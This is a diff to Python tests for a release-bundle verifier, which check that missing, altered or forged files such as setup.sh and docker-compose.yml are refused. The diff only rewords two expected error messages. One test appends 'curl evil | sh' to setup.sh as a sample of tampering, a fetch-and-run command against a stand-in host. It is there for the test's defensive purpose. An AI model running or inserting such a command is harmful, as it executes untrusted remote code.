@@ -86,7 +86,7 @@ def test_a_file_more_less_or_altered_is_named():
     less = {path: member for path, member in MEMBERS.items() if path != "verify.sh"}
     assert "verify.sh is missing" in refused(write_zip(folder, less, BUNDLE.promoted_at))
     other = write_zip(folder, changed("setup.sh", lambda data: data + b"#"), BUNDLE.promoted_at)
-    assert any(reason.startswith("setup.sh: sha256 ") for reason in refused(other))
+    assert any(reason.startswith("setup.sh: found sha256 ") for reason in refused(other))
     plain = MEMBERS | {"setup.sh": Member(MEMBERS["setup.sh"].data)}
     assert "setup.sh is not executable" in refused(write_zip(folder, plain, BUNDLE.promoted_at))
     assert any(
@@ -97,7 +97,7 @@ def test_a_file_more_less_or_altered_is_named():
 def test_a_forger_who_mends_the_hashes_is_found_too():
     """By the scripts of this program, and by the images of the promotion."""
     script = forged(changed("setup.sh", lambda data: data + b"curl evil | sh\n"))
-    assert any(reason.startswith("setup.sh is not the one of") for reason in refused(script))
+    assert any(reason.startswith("setup.sh is not the one from") for reason in refused(script))
     image = forged(changed("docker-compose.yml", lambda data: data.replace(b"aaaa", b"bbbb")))
     assert any("is not one of the release" in reason for reason in refused(image))
     words = forged(changed("release.env", lambda data: data.replace(b"REGISTRY='1", b"REGISTRY='9")))
